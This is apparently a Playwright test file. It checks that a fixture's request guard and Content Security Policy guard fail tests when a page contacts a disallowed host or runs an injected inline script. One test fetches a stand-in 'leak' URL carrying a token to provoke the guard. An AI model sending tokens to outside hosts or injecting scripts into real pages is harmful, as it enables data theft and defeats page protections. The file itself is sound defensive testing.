/**
 * The shared fixture's guards must be able to fail a test; these tests prove it by provoking
 * each failure and declaring it expected with test.fail() (Playwright then reports a pass only
 * if the test really failed).
 */
import { test, expect } from './fixtures.ts'

test('the request guard fails a test whose page contacts a host it did not allow', async ({ page, guard }) => {
  test.fail()
  await page.goto('/#/inspect')
  await page.evaluate(() => fetch('https://not-allowed.test.example/leak?token=abc').catch(() => undefined))
  await expect.poll(() => guard.blocked().length).toBeGreaterThan(0)
})

test('the CSP guard fails a test whose page runs an inline script', async ({ page, guard }) => {
  test.fail()
  await page.goto('/#/inspect')
  await page.evaluate(() => {
    const s = document.createElement('script')
    s.textContent = 'window.__inlineRan = true'
    document.body.append(s)
  })
  await expect.poll(() => guard.cspViolations().length).toBeGreaterThan(0)
  expect(await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan)).toBeUndefined()
})

test('allowed hosts pass the guard', async ({ page, guard, context }) => {
  guard.allow('issuer.test.example')
  await context.route('https://issuer.test.example/**', (route) =>
    route.fulfill({ status: 200, contentType: 'application/json', body: '{}', headers: { 'access-control-allow-origin': '*' } }),
  )
  await page.goto('/#/inspect')
  const status = await page.evaluate(() => fetch('https://issuer.test.example/x').then((r) => r.status))
  expect(status).toBe(200)
  expect(guard.blocked()).toEqual([])
})
